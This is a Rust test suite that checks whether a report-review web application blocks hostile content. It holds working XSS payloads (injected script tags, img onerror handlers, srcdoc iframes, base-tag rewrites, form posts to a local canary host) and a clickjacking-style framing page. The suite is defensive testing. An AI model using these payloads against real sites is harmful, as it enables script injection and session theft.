//! Nothing from a report can run, load or navigate. Each test fails when the escaping or the
//! content security policy is taken away, which a proxy does here.

use std::sync::atomic::Ordering;
use std::time::Duration;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::access::look;
use crate::browser::Browser;
use crate::evil_desk::{CASE, EvilDesk, GRANT, REPORT};
use crate::hostile::texts;
use crate::job::let_in;
use crate::program::{Program, key_file, keygen};
use crate::proxy::{Canary, Proxy};

/// What a page may have besides text: the elements of this program.
const FOREIGN: &str = "script, iframe, frame, object, embed, base, style, math, video, audio, \
                       source, template, xmp, plaintext, noscript, marquee, dialog, \
                       meta[http-equiv], [style], [onload], [onerror], [onfocus], [ontoggle], \
                       [srcdoc], svg script, svg [href], a[target], a[ping]";

struct Scene {
    _folder: TempDir,
    _desk: EvilDesk,
    program: Program,
    proxy: Proxy,
    canary: Canary,
    browser: Browser,
    base: String,
}

impl Scene {
    fn new() -> Option<Self> {
        let browser = Browser::start()?;
        let folder = TempDir::new().unwrap();
        let path = key_file(&folder, "alice");
        let canary = Canary::start("<p>loaded</p>");
        let desk = EvilDesk::start(&keygen(&path), &canary.host);
        let program = Program::start(&path, &desk.url);
        let proxy = Proxy::start(&program.host);
        let mut scene = Self {
            _folder: folder,
            _desk: desk,
            program,
            proxy,
            canary,
            browser,
            base: String::new(),
        };
        let link = format!("http://{}{}", scene.proxy.host, scene.program.enter_path());
        scene.browser.go(&link);
        let_in(&scene.program, &mut scene.browser);
        let url = scene.browser.url();
        url.strip_suffix("/queue")
            .expect("the queue")
            .clone_into(&mut scene.base);
        Some(scene)
    }

    /// Opens the hostile report, as an officer does.
    fn open_report(&mut self) {
        let url = format!("{}/case/{CASE}", self.base);
        self.browser.go(&url);
        self.browser
            .follow(&format!("button[aria-label^='Open report {}']", "12121212"));
        self.browser.follow("main form[action$='/sign'] button");
        assert!(
            self.browser.url().contains("/view/"),
            "{}",
            self.browser.text()
        );
    }

    fn view(&self) -> String {
        format!("{}/view/{GRANT}/{REPORT}", self.base)
    }

    /// Shows a page, and returns what is wrong with it.
    fn findings(&mut self, url: &str) -> Vec<String> {
        let browser = &mut self.browser;
        self.canary.take();
        browser.events.clear();
        browser.go(url);
        // All that a click unfolds is unfolded, and all that has the focus or the pointer gets it.
        browser.eval("document.querySelectorAll('details').forEach(one => one.open = true)");
        browser.settle(Duration::from_millis(300));
        let mut found = Vec::new();
        if browser.url() != url {
            found.push(format!("the browser went to {}", browser.url()));
        }
        if browser.eval("String(window.pwned)") != json!("undefined") {
            found.push("a script ran".to_owned());
        }
        let foreign = browser.eval(&format!(
            "[...document.querySelectorAll({FOREIGN:?})].map(e => e.outerHTML.slice(0, 80))"
        ));
        for element in foreign.as_array().unwrap() {
            found.push(format!("a foreign element: {element}"));
        }
        let images = "document.querySelectorAll('img, picture, image, input[type=image]').length";
        if !url.ends_with("/page") && browser.eval(images) != json!(0) {
            found.push("a picture on a page that has other things".to_owned());
        }
        let links = browser.eval(
            "[...document.querySelectorAll('[href], [src], [action]')].map(e => \
             e.href?.baseVal ?? e.href ?? e.src ?? e.action)",
        );
        for link in links.as_array().unwrap() {
            let link = link.as_str().unwrap_or_default();
            let own = format!("http://{}/", self.proxy.host);
            if !link.starts_with(&own) {
                found.push(format!("a link to {link}"));
            }
        }
        let (own, browser) = (format!("http://{}/", self.proxy.host), &self.browser);
        let asked = browser.told("Network.requestWillBeSent").into_iter();
        for event in asked {
            let to = event["params"]["request"]["url"]
                .as_str()
                .unwrap_or_default();
            // The browser's own icon of a date field is a data address. One of the page's would hit
            // the policy, which is looked for below.
            if !to.starts_with(&own) && !to.starts_with("data:") {
                found.push(format!("a request to {to}"));
            }
            if !url.ends_with("/page") && (to.contains("/picture/") || to.contains("/preview/")) {
                found.push(format!("a picture that nobody asked for: {to}"));
            }
        }
        for event in browser.told("Page.javascriptDialogOpening") {
            found.push(format!("a dialog: {event}"));
        }
        for event in browser.told("Log.entryAdded") {
            found.push(format!(
                "the browser complains: {}",
                event["params"]["entry"]["text"]
            ));
        }
        for event in browser.told("Audits.issueAdded") {
            let code = &event["params"]["issue"]["code"];
            if code == "ContentSecurityPolicyIssue" {
                found.push(format!("the policy was hit: {event}"));
            }
        }
        for request in self.canary.take() {
            if request.starts_with("GET /ran ") {
                found.push("a script ran".to_owned());
            }
            found.push(format!("loaded: {request}"));
        }
        found
    }

    /// Puts into a page what an escaping that was forgotten would let through, and returns what
    /// the policy does not stop.
    fn not_stopped(&mut self) -> Vec<String> {
        let canary = self.canary.host.clone();
        self.canary.take();
        let put = format!(
            "(() => {{ window.pwned = undefined; \
             const add = (name, more) => {{ const e = document.createElement(name); \
               Object.assign(e, more); document.body.append(e); return e; }}; \
             add('script', {{textContent: 'window.pwned = 1'}}); \
             add('script', {{src: 'http://{canary}/script'}}); \
             add('img', {{src: 'http://{canary}/img'}}); \
             add('img', {{src: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', \
               onload: () => window.dataShown = 1}}); \
             add('iframe', {{src: 'http://{canary}/frame'}}); \
             add('iframe', {{srcdoc: '<script>top.pwned = 1</' + 'script>'}}); \
             add('link', {{rel: 'stylesheet', href: 'http://{canary}/sheet'}}); \
             add('object', {{data: 'http://{canary}/object'}}); \
             add('style', {{textContent: 'body {{ color: rgb(1, 2, 3) }}'}}); \
             add('div', {{}}).innerHTML = '<p style=\"color: rgb(4, 5, 6)\" id=styled>' + \
               '<img src=x onerror=\"window.pwned = 2\">'; \
             const base = add('base', {{href: 'http://{canary}/'}}); document.head.prepend(base); \
             const form = add('form', {{action: 'http://{canary}/form', method: 'post'}}); \
             add('iframe', {{name: 'sink'}}); \
             form.target = 'sink'; form.submit(); }})()"
        );
        self.browser.eval(&put);
        self.browser.settle(Duration::from_millis(700));
        let mut found: Vec<_> = self.canary.take();
        let state = self.browser.eval(
            "({pwned: window.pwned ?? 0, color: getComputedStyle(document.body).color, \
             styled: getComputedStyle(document.querySelector('#styled')).color, \
             base: document.baseURI, data: window.dataShown ?? 0})",
        );
        let is = |name: &str, value: Value| state[name] == value;
        if !is("pwned", json!(0)) {
            found.push("a script ran".to_owned());
        }
        if is("color", json!("rgb(1, 2, 3)")) || is("styled", json!("rgb(4, 5, 6)")) {
            found.push("a style was applied".to_owned());
        }
        if state["base"].as_str().unwrap().contains(&canary) {
            found.push("the base was changed".to_owned());
        }
        if is("data", json!(1)) {
            found.push("a data address was shown".to_owned());
        }
        found
    }
}

#[test]
fn chk640_nothing_from_outside_runs_loads_or_navigates_on_any_page() {
    let Some(mut scene) = Scene::new() else {
        return;
    };
    assert!(texts("").len() >= 20);
    scene.open_report();
    let pages = [
        "/queue".to_owned(),
        format!("/case/{CASE}"),
        format!("/case/{CASE}/ask"),
        format!("/case/{CASE}/decide"),
        format!("/case/{CASE}/hold"),
        format!("/case/{CASE}/export"),
        format!("/case/{CASE}/appeal/{}", "07".repeat(32)),
        "/grants".to_owned(),
        "/appeals".to_owned(),
        "/log".to_owned(),
        "/transparency".to_owned(),
        "/exports".to_owned(),
    ];
    for page in pages {
        let url = format!("{}{page}", scene.base);
        assert_eq!(scene.findings(&url), Vec::<String>::new(), "{page}");
        let name: String = page
            .split('/')
            .skip(1)
            .map(|one| one.get(..8).unwrap_or(one))
            .collect();
        look(&mut scene.browser, &format!("hostile-{name}"));
    }
    let view = scene.view();
    assert_eq!(scene.findings(&view), Vec::<String>::new());
    look(&mut scene.browser, "hostile-view");
    scene.browser.picture_from("hostile-view-middle", "#m17");
    scene.browser.picture_from("hostile-view-end", "#m25");
    // Every text is there, as text: on the queue as the names of accounts.
    let queue = format!("{}/queue", scene.base);
    scene.browser.go(&queue);
    let shown = scene
        .browser
        .eval("document.querySelector('table').textContent");
    let shown = shown.as_str().unwrap().to_owned();
    for (name, text) in texts(&scene.canary.host) {
        let line = text.lines().next().unwrap();
        let start: String = line.chars().take(40).take_while(char::is_ascii).collect();
        assert!(
            start.chars().any(char::is_control) || shown.contains(&start),
            "{name}"
        );
    }

    // With the escaping taken away, the page is full of findings. The policy stops the scripts, and
    // cannot stop a page that refreshes to another one.
    scene.proxy.taken.escaping.store(true, Ordering::SeqCst);
    let found = scene.findings(&view);
    let is = |what: &str| found.iter().any(|one| one.contains(what));
    assert!(
        is("/refresh") && is("Executing inline script violates"),
        "{found:?}"
    );
    assert!(!is("a script ran"), "{found:?}");
    // With both taken away, a script of a sender runs.
    scene.proxy.taken.policy.store(true, Ordering::SeqCst);
    let found = scene.findings(&view);
    assert!(found.contains(&"a script ran".to_owned()), "{found:?}");
    assert!(
        found.iter().any(|one| one.starts_with("loaded: ")),
        "{found:?}"
    );
}

#[test]
fn what_an_escaping_that_was_forgotten_would_let_through_is_stopped_by_the_policy() {
    let Some(mut scene) = Scene::new() else {
        return;
    };
    scene.open_report();
    let view = scene.view();
    scene.browser.go(&view);
    assert_eq!(scene.not_stopped(), Vec::<String>::new());
    // The same without the policy, which shows that each of these things was really tried.
    scene.proxy.taken.policy.store(true, Ordering::SeqCst);
    scene.browser.go(&view);
    let found = scene.not_stopped();
    for what in [
        "a script ran",
        "a style was applied",
        "the base was changed",
        "a data address was shown",
    ] {
        assert!(found.contains(&what.to_owned()), "{what}: {found:?}");
    }
    for path in ["/script", "/img", "/frame", "/sheet", "/object", "/form"] {
        let is = |one: &String| one.contains(&format!(" {path} HTTP"));
        assert!(found.iter().any(is), "{path}: {found:?}");
    }
}

#[test]
fn a_picture_that_is_a_page_as_well_is_shown_as_a_picture_alone() {
    let Some(mut scene) = Scene::new() else {
        return;
    };
    scene.open_report();
    let view = scene.view();
    scene.browser.go(&view);
    // Before the click, nothing of the file was fetched. After it, no picture is on this page.
    let count = "document.querySelectorAll(\"a[href*='/picture/']\").length";
    assert_eq!(scene.browser.eval(count), json!(0));
    scene.browser.follow("form[action$='/fetch'] button");
    assert_eq!(scene.browser.eval(count), json!(1));
    assert_eq!(scene.findings(&view), Vec::<String>::new());
    // Its own page shows it, and so does that of the small picture.
    let image = "(async () => { const e = document.querySelector('img'); await e.decode(); \
                 return [e.naturalWidth, e.naturalHeight]; })()";
    for what in ["preview", "picture"] {
        scene.browser.go(&view);
        scene.browser.follow(&format!("a[href*='/{what}/']"));
        assert_eq!(scene.browser.eval(image), json!([1, 1]));
        let page = scene.browser.url();
        assert_eq!(scene.findings(&page), Vec::<String>::new());
        look(&mut scene.browser, &format!("hostile-{what}"));
    }
    // The address of the picture, opened as a page, is a picture and no page.
    let picture = scene.browser.eval("document.querySelector('img').src");
    scene.browser.go(picture.as_str().unwrap());
    assert_eq!(
        scene.browser.eval("document.contentType"),
        json!("image/png")
    );
    assert_eq!(
        scene.browser.eval("String(window.pwned)"),
        json!("undefined")
    );
}

#[test]
fn a_page_in_a_frame_of_another_page_shows_nothing() {
    let Some(mut scene) = Scene::new() else {
        return;
    };
    let queue = format!("{}/queue", scene.base);
    // Another program of this machine knows the path, and is of the same site for cookies.
    let thief = Canary::start(&format!("<iframe id=f src='{queue}'></iframe><p>bait"));
    scene.browser.go(&format!("http://{}/", thief.host));
    scene.browser.settle(Duration::from_millis(500));
    let tree = scene.browser.call("Page.getFrameTree", json!({}));
    let frame = &tree["frameTree"]["childFrames"][0]["frame"];
    let url = frame["url"].as_str().unwrap_or_default();
    let unreachable = frame["unreachableUrl"].as_str().unwrap_or_default();
    assert!(
        url.starts_with("chrome-error:") || unreachable == queue,
        "{tree}"
    );
    // It gets no cookie of the session either, since the cookie has the random path.
    for request in thief.take() {
        assert!(
            !request.to_lowercase().contains("waxseal-officer"),
            "{request}"
        );
    }
}
